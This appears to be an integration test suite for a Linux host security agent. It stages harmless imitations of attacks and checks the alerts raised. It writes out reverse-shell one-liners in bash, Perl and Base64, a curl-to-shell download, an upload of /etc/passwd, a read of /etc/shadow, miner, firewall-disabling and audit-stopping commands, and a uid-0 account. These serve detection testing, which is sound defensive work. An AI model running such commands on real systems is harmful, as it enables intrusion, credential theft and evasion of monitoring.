import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, copyFileSync, existsSync, mkdirSync, realpathSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { systemClock } from '../../src/core/base/clock.ts';
import { seconds } from '../../src/core/base/duration.ts';
import type { Payload } from '../../src/core/contract/event.ts';
import { suiteFolder } from '../harness/folders.ts';
import { require } from '../harness/require.ts';
import { until } from '../harness/until.ts';
import { type AgentProcess, QUICK, TestBed } from '../integration/test-bed.ts';
import { missingForAudit } from './missing-for-audit.ts';
import { missingForSshd, SshServer } from './sshd.ts';

/**
 * Time limit for an alert. On an idle machine, an alert takes less than 5 s, as the table shows (VAKT_PRINT_TABLE=1); the machine
 * of a test may be loaded.
 */
const LIMIT = seconds(60);
/** Time in which a second alert would arrive. */
const QUIET = seconds(5);
/** An unprivileged account. */
const NOBODY = 65_534;
/**
 * Users of no other process. The agent also sees the shells of other tests, and actions of the same user with the same program are
 * one alert.
 */
const [STRANGER, ANOTHER, WRAPPED, FLOODING, QUIET_USER, FORGER] = [
  61_234, 61_235, 61_236, 61_237, 61_238, 61_239,
] as const;

const DESIRED = {
  ...QUICK,
  // About the default, so that no snapshot sent during the test contains a change.
  snapshotFrequency: { value: 'PT13H' },
  maxLocalCacheSizeInBytes: { value: 64_000_000 },
  // The rules still evaluate new ports.
  eventPriorityListeningPorts: { value: 'Off' },
};

/** The control file of a Debian package. */
const control = (name: string): string =>
  `Package: ${name}\nVersion: 1\nArchitecture: all\nMaintainer: Vakt <vakt@example.com>\nDescription: for a test\n`;

type Start = readonly [program: string, ...args: string[]];

/** A harmless imitation of an attack. */
interface Attack {
  readonly type: string;
  readonly level: 'High' | 'Medium';
  /** The program and its arguments, one of which contains the marker. */
  readonly start: Start;
  readonly userId?: number;
  /** The decoded command line that the rule matched, if it differs from the command line. */
  readonly matched?: RegExp;
}

/** The attacks with their alerts, and the seconds until the alert arrived. */
const rows: { attack: string; alert: Payload; took: number }[] = [];

describe('An agent under attack', function () {
  this.timeout(180_000);
  const marker = `vakt${process.pid}`;
  const table = `vakt_${process.pid}`;
  const user = `vakta${process.pid}`;
  let folder: string;
  let bed: TestBed;
  let agent: AgentProcess;
  let sshd: SshServer;
  let hasTable = false;
  let hasUser = false;

  before(async function () {
    require(this, await missingForAudit());
    require(this, missingForSshd());
    for (const tool of ['/usr/sbin/nft', '/usr/bin/curl', '/usr/bin/perl', '/usr/bin/openssl', '/usr/bin/dpkg-deb']) {
      require(this, existsSync(tool) ? undefined : `there is no ${tool}`);
    }
    folder = suiteFolder();
    chmodSync(folder, 0o755);
    sshd = await SshServer.start();
    // A policy without effect: the rule before it accepts all packets except those with a mark that no program sets.
    nft(`add table inet ${table}`);
    hasTable = true;
    nft(`add chain inet ${table} input { type filter hook input priority 300; policy drop; }`);
    nft(`add rule inet ${table} input meta mark != 0x76616b74 accept`);
    bed = await TestBed.open({ desired: DESIRED });
    bed.writeConfiguration({ detections: { enabled: true } });
    bed.startWith(DESIRED);
    agent = bed.startAgent();
    await agent.waitForStatus(
      ({ collectors, configuration, detections }) =>
        collectors.ProcessCreate?.source === 'auditUnicast' &&
        collectors.FirewallConfiguration?.lastRunAt !== undefined &&
        collectors.LocalUsers?.lastRunAt !== undefined &&
        configuration.desiredVersion === 2 &&
        detections?.state === 'on',
      seconds(90),
    );
  });
  after(async () => {
    try {
      if (bed !== undefined) await bed.close();
    } finally {
      if (hasTable) nft(`delete table inet ${table}`);
      if (hasUser) execFileSync('/usr/sbin/userdel', ['--force', user], { stdio: 'ignore' });
      await sshd?.stop();
    }
    if (process.env.VAKT_PRINT_TABLE === '1') printTable();
  });

  const nft = (command: string) => execFileSync('/usr/sbin/nft', [command]);
  const alerts = () => bed.elements('SecurityAlert');
  const isMarked = ({ CommandLine, ParentCommandLine }: Payload) =>
    `${CommandLine} ${ParentCommandLine}`.includes(marker);

  /** Returns a path in the test's folder. */
  const scratch = (path: string, text?: string): string => {
    const file = join(folder, marker, path);
    mkdirSync(dirname(file), { recursive: true });
    if (text !== undefined) writeFileSync(file, text);
    return file;
  };
  /** Creates a program of this name that does nothing. */
  const stub = (name: string): string => {
    const file = scratch(name);
    if (!existsSync(file)) copyFileSync('/usr/bin/true', file);
    chmodSync(file, 0o755);
    return file;
  };
  const run = async ([program, ...args]: Start, userId = 0): Promise<number> => {
    const child = spawn(program, args, { stdio: 'ignore', cwd: '/', uid: userId, gid: userId });
    await once(child, 'exit');
    assert.ok(child.pid !== undefined);
    return child.pid;
  };

  /** Attacks and waits for the alert. @param since whether the seconds are counted from the beginning or the end of the attack */
  const raises = async <T>(
    attack: string,
    act: () => T,
    isExpected: (alert: Payload) => boolean,
    { since = 'beginning' }: { since?: 'beginning' | 'end' } = {},
  ): Promise<{ alert: Payload; result: Awaited<T> }> => {
    let began = systemClock.monotonic();
    const result = await act();
    if (since === 'end') began = systemClock.monotonic();
    await until(
      () => `the alert of: ${attack}; alerts: ${JSON.stringify(alerts())}`,
      () => alerts().some(isExpected),
      { limit: LIMIT },
    );
    const took = (systemClock.monotonic() - began) / 1_000;
    const [alert = {}] = alerts().filter(isExpected);
    rows.push({ attack, alert, took });
    return { alert, result };
  };
  const ofType = (type: string) => alerts().filter(({ AlertType }) => AlertType === type);

  const reverseShell: Start = ['/bin/bash', '-c', `: ${marker}; bash -i >& /dev/tcp/127.0.0.1/1 0>&1`];
  const perlShell = [
    'use Socket;socket(S,PF_INET,SOCK_STREAM,6);',
    'if(connect(S,sockaddr_in(1,inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");}',
  ].join('');
  const encoded = (script: string) => Buffer.from(script).toString('base64');

  const attacks = (): Record<string, Attack> => ({
    'A reverse shell of bash, by an unprivileged account': {
      type: 'IoT_ReverseShell',
      level: 'High',
      start: reverseShell,
      userId: NOBODY,
    },
    'A reverse shell of Perl': {
      type: 'IoT_ReverseShell',
      level: 'High',
      start: ['/usr/bin/perl', '-e', perlShell, marker],
    },
    'A reverse shell in Base64, decoded into a shell': {
      type: 'IoT_ReverseShell',
      level: 'High',
      start: ['/bin/sh', '-c', `: ${marker}; echo ${encoded('bash -i >& /dev/tcp/127.0.0.1/1 0>&1')} | base64 -d | sh`],
      userId: STRANGER,
      matched: /\/dev\/tcp\/127\.0\.0\.1/,
    },
    'A download piped into a shell': {
      type: 'IoT_DownloadFileThenRun',
      level: 'Medium',
      start: ['/bin/sh', '-c', `curl -s http://${marker}.invalid/x.sh | sh`],
    },
    'A miner': {
      type: 'IoT_CryptoMiner',
      level: 'High',
      start: [stub('xmrig'), '-o', `stratum+tcp://127.0.0.1:1`, '-u', marker, '--donate-level=1'],
    },
    'A log truncated': {
      type: 'IoT_RemovelOfSystemLogs',
      level: 'Medium',
      start: ['/usr/bin/truncate', '-s', '0', scratch('var/log/auth.log', 'a line\n')],
    },
    'The firewall disabled': { type: 'IoT_DisableFirewall', level: 'High', start: [stub('ufw'), 'disable'] },
    'The audit daemon stopped': {
      type: 'IoT_DisableAuditdLogging',
      level: 'High',
      start: [stub('systemctl'), 'stop', 'auditd'],
    },
    'Password hashes read': {
      type: 'IoT_CredentialAccessTools',
      level: 'Medium',
      start: ['/bin/cat', '/etc/shadow', `/nonexistent/${marker}`],
    },
    'A set-user-id copy in a temporary folder': {
      type: 'IoT_LinuxBackdoor',
      level: 'Medium',
      start: ['/usr/bin/install', '-m', '4755', '/bin/true', scratch('sh')],
    },
    'A cron job from a temporary folder': {
      type: 'IoT_LinuxBackdoor',
      level: 'Medium',
      start: [stub('crontab'), scratch('job', '')],
    },
    'A file uploaded': {
      type: 'IoT_EgressData',
      level: 'Medium',
      start: ['/usr/bin/curl', '-s', '-T', '/etc/passwd', `http://127.0.0.1:1/${marker}`],
    },
    'An account with user id 0': {
      type: 'IoT_SuspiciousUseradd',
      level: 'Medium',
      start: [stub('useradd'), '-o', '-u', '0', 'toor'],
    },
    'A privileged container': {
      type: 'IoT_PrivilegedContainer',
      level: 'Medium',
      start: [stub('docker'), 'run', '--privileged', '-v', '/:/host', 'alpine'],
    },
  });

  it('raises one alert with its evidence for each of fourteen attacks', async () => {
    const pids = new Map<number, string>();
    for (const [attack, { type, level, start, userId = 0, matched }] of Object.entries(attacks())) {
      const known = new Set(alerts().map(({ AlertId }) => AlertId));
      const isNew = (alert: Payload) => isMarked(alert) && !known.has(alert.AlertId);
      const { alert, result: pid } = await raises(attack, () => run(start, userId), isNew);
      pids.set(pid, attack);
      const json = JSON.stringify(alert);
      assert.deepEqual([alert.AlertType, alert.Severity, alert.Count], [type, level, 1], json);
      assert.deepEqual([alert.EventName, alert.RuleSource], ['ProcessCreate', 'builtin'], json);
      assert.equal(alert.CommandLine, start.join(' '));
      assert.deepEqual([alert.ProcessId, alert.ParentProcessId], [pid, process.pid], json);
      assert.equal(alert.UserId, String(userId), json);
      assert.equal(alert.ParentExecutable, realpathSync(process.execPath), json);
      if (matched !== undefined) {
        assert.match(String((alert.ExtraDetails as Payload).MatchedCommandLine), matched, json);
      }
      await bed.waitForEvents(() => bed.events('ProcessCreate').some(({ Id }) => Id === alert.EventIds));
      const about = bed.events('ProcessCreate').find(({ Id }) => Id === alert.EventIds);
      assert.deepEqual(
        about?.Payload.map(({ ProcessId, CommandLine }) => [ProcessId, CommandLine]),
        [[pid, alert.CommandLine]],
      );
    }
    await systemClock.sleep(QUIET);
    assert.deepEqual(
      alerts()
        .filter(isMarked)
        .map(({ ProcessId }) => pids.get(Number(ProcessId))),
      [...pids.values()],
    );
  });

  it('counts a repeated attack and does not raise a second alert', async () => {
    await run(reverseShell, ANOTHER);
    await until('the first', () => alerts().some((alert) => isMarked(alert) && alert.UserId === String(ANOTHER)));
    const { counted } = (await agent.status()).detections ?? assert.fail();
    const before = alerts().filter(isMarked).length;
    for (let times = 0; times < 3; times += 1) await run(reverseShell, ANOTHER);
    await until('the count', async () => ((await agent.status()).detections?.counted ?? 0) >= counted + 3);
    await systemClock.sleep(QUIET);
    assert.equal(alerts().filter(isMarked).length, before);
  });

  /** Returns a reverse shell to another port, which is another target. */
  const shellTo = (port: number): Start => [
    '/bin/bash',
    '-c',
    `: ${marker}; bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`,
  ];
  const alertsOf = (userId: number) => alerts().filter((alert) => isMarked(alert) && alert.UserId === String(userId));

  it('raises one alert for wrappers and their command, and another alert for a second target', async () => {
    await raises(
      'A shell started by timeout and nohup',
      () => run(['/usr/bin/timeout', '5', 'nohup', ...shellTo(2)], WRAPPED),
      ({ UserId }) => UserId === String(WRAPPED),
    );
    await run(shellTo(3), WRAPPED);
    await until('the second alert', () => alertsOf(WRAPPED).length >= 2, { limit: LIMIT });
    await systemClock.sleep(QUIET);
    const found = alertsOf(WRAPPED).map(({ CommandLine, Count, Selection }) => [CommandLine, Count, Selection]);
    assert.deepEqual(found, [
      [['/usr/bin/timeout', '5', 'nohup', ...shellTo(2)].join(' '), 1, 'shellToDevice'],
      [shellTo(3).join(' '), 1, 'shellToDevice'],
    ]);
  });

  it('raises alerts for another user and another rule after 120 alerts of one user', async () => {
    const harmless = (n: number): Start => ['/bin/cat', '/etc/shadow', `/nonexistent/${marker}-${n}`];
    await Promise.all(Array.from({ length: 120 }, (_, n) => run(harmless(n), FLOODING)));
    const isHeldBack = ({ ExtraDetails }: Payload) =>
      String((ExtraDetails as Payload | undefined)?.HeldBack).endsWith(`held back, user ${FLOODING}`);
    await raises('120 harmless alerts', () => {}, isHeldBack);
    assert.equal(alertsOf(FLOODING).filter((alert) => !isHeldBack(alert)).length, 20);
    for (const [start, userId] of [
      [harmless(1), QUIET_USER],
      [reverseShell, FLOODING],
    ] as const) {
      const isIt = (alert: Payload) => alert.UserId === String(userId) && alert.CommandLine === start.join(' ');
      const { alert } = await raises(`One of user ${userId} after 120 harmless ones`, () => run(start, userId), isIt);
      assert.equal(isHeldBack(alert), false);
    }
  });

  it('reports an attack at its full level when a user forges the arguments of a maintainer script', async () => {
    const script = scratch('attack.sh', `${stub('systemctl')} stop auditd; sleep 1\n`);
    const forged = '/bin/sh /var/lib/dpkg/info/a.postinst configure';
    const isIt = ({ AlertType, UserId }: Payload) =>
      AlertType === 'IoT_DisableAuditdLogging' && UserId === String(FORGER);
    const forge: Start = ['/bin/bash', '-c', `exec -a '${forged}' /bin/bash ${script}`];
    const { alert } = await raises('Audit stopped with forged arguments', () => run(forge, FORGER), isIt);
    assert.deepEqual([alert.Severity, alert.During], ['High', undefined], JSON.stringify(alert));
    assert.equal(alert.ParentCommandLine, `${forged} ${script}`);
  });

  it('lowers the level by one and names the package manager for the same attack by a package script', async () => {
    const name = `vakt-actors-${process.pid}`;
    const written = scratch('package/DEBIAN/control', control(name));
    const line = `${stub('systemctl')} stop auditd ${marker}-package`;
    chmodSync(scratch('package/DEBIAN/postinst', `#!/bin/sh\n${line}\nsleep 1\n`), 0o755);
    const archive = join(folder, `${name}.deb`);
    const pack = ['--build', '--root-owner-group', dirname(dirname(written)), archive];
    execFileSync('/usr/bin/dpkg-deb', pack, { stdio: 'ignore' });
    const isIt = ({ CommandLine }: Payload) => CommandLine === line;
    try {
      const install: Start = ['/usr/bin/dpkg', '--install', archive];
      const { alert } = await raises('Audit stopped by a script of a package', () => run(install), isIt);
      const shown = JSON.stringify(alert);
      assert.deepEqual(
        [alert.AlertType, alert.Severity, alert.During],
        ['IoT_DisableAuditdLogging', 'Medium', 'dpkg'],
        shown,
      );
      const { Ancestors } = alert.ExtraDetails as Readonly<Record<string, string>>;
      assert.match(String(Ancestors), /^[^;]*sh;\/usr\/bin\/dpkg(;|$)/);
    } finally {
      execFileSync('/usr/bin/dpkg', ['--purge', name], { stdio: 'ignore' });
    }
  });

  it('names the program that started an attack even if its process has since executed another program', async () => {
    const line = `${stub('xmrig')} -o stratum+tcp://127.0.0.1:1 -u ${marker}-later`;
    const start: Start = ['/bin/bash', '-c', `${line}; exec /usr/bin/sleep 1`];
    const isIt = ({ CommandLine }: Payload) => CommandLine === line;
    const { alert } = await raises('A miner whose parent becomes sleep', () => run(start, FORGER), isIt);
    assert.deepEqual(
      [alert.ParentExecutable, alert.ParentCommandLine],
      [realpathSync('/bin/bash'), start.join(' ')],
      JSON.stringify(alert),
    );
  });

  it('raises one alert for a new listening port', async () => {
    const server = createServer();
    try {
      const isIt = ({ LocalPort }: Payload) => LocalPort === String((server.address() as AddressInfo).port);
      const { alert } = await raises('A port opened', () => once(server.listen(0, '0.0.0.0'), 'listening'), isIt);
      const json = JSON.stringify(alert);
      assert.deepEqual([alert.AlertType, alert.Severity, alert.Count], ['VAKT_NewListeningPort', 'Medium', 1], json);
      assert.deepEqual([alert.Protocol, alert.LocalAddress, alert.UserId], ['tcp', '0.0.0.0', '0'], json);
      assert.equal(alert.Executable, realpathSync(process.execPath), json);
      assert.deepEqual([alert.ProcessId, alert.ParentProcessId], [process.pid, process.ppid], json);
      await systemClock.sleep(QUIET);
      assert.equal(alerts().filter(isIt).length, 1);
      assert.deepEqual(bed.events('ListeningPorts'), []);
    } finally {
      server.close();
    }
  });

  it('raises one alert for a new account', async () => {
    const add = () => {
      hasUser = true;
      execFileSync('/usr/sbin/useradd', ['--no-create-home', '--shell', '/bin/bash', user]);
    };
    const isIt = (alert: Payload) => alert.UserName === user && alert.EventName === 'LocalUsers';
    const { alert } = await raises('An account added', add, isIt);
    assert.deepEqual(
      [alert.AlertType, alert.Severity, alert.Count],
      ['VAKT_UserAdded', 'Medium', 1],
      JSON.stringify(alert),
    );
    const { ActorInferred, ActorExecutable } = alert.ExtraDetails as Payload;
    assert.deepEqual([ActorInferred, ActorExecutable], ['true', '/usr/sbin/useradd'], JSON.stringify(alert));
    await systemClock.sleep(QUIET);
    assert.equal(alerts().filter(isIt).length, 1);
    assert.equal(bed.events('LocalUsers').length, 1);
  });

  it('raises one alert for each change that opens the packet filter', async () => {
    const openings = [
      ['Policy set to accept', 'VAKT_FirewallPolicyPermissive', `chain inet ${table} input { policy accept; }`],
      ['Rule that accepts all', 'VAKT_FirewallRulePermissive', `add rule inet ${table} input accept`],
    ] as const;
    for (const [change, type, command] of openings) {
      const isIt = (alert: Payload) =>
        alert.AlertType === type && (alert.ExtraDetails as Payload | undefined)?.Table === table;
      const { alert } = await raises(`Packet filter: ${change}`, () => nft(command), isIt);
      const json = JSON.stringify(alert);
      assert.deepEqual([alert.Severity, alert.Count, alert.EventName], ['Medium', 1, 'FirewallConfiguration'], json);
      await systemClock.sleep(QUIET);
      assert.equal(alerts().filter(isIt).length, 1);
    }
  });

  it('raises one alert for a brute force at a real sshd, and one for the successful login after it', async () => {
    const guess = () =>
      Promise.all(Array.from({ length: 5 }, () => sshd.visit({ passwords: ['wrong', 'also wrong', 'no better'] })));
    const isGuessing = ({ AlertType }: Payload) => AlertType === 'VAKT_FailedBruteForce';
    const failed = await raises('Passwords guessed, after the last one', guess, isGuessing, { since: 'end' });
    assert.deepEqual([failed.alert.Severity, failed.alert.RemoteAddress], ['Medium', '127.0.0.1']);
    const isLogin = ({ AlertType }: Payload) => AlertType === 'VAKT_SuccessfulBruteForce';
    const { alert } = await raises('Logged in after that', () => sshd.visit({ command: ['true'] }), isLogin);
    const json = JSON.stringify(alert);
    assert.deepEqual([alert.Severity, alert.EventName, alert.Result], ['High', 'Login', 'Success'], json);
    assert.deepEqual([alert.UserName, alert.RemoteAddress, alert.Count], [sshd.user, '127.0.0.1', 1], json);
    await systemClock.sleep(QUIET);
    for (const type of ['VAKT_FailedBruteForce', 'VAKT_SuccessfulBruteForce']) {
      assert.equal(ofType(type).length, 1, type);
    }
  });

  function printTable(): void {
    const lines = rows.map(
      ({ attack, alert, took }) => `| ${attack} | ${alert.AlertType} | ${alert.Severity} | ${took.toFixed(1)} |`,
    );
    const sorted = rows.map(({ took }) => took).sort((a, b) => a - b);
    const [median = 0, worst = 0] = [sorted[Math.floor(sorted.length / 2)], sorted.at(-1)];
    const summary = `median ${median.toFixed(1)} s, worst ${worst.toFixed(1)} s, from the beginning of the attack to the hub`;
    process.stdout.write(
      ['', '| attack | alert | level | seconds |', '| --- | --- | --- | --- |', ...lines, '', summary, ''].join('\n'),
    );
  }
});
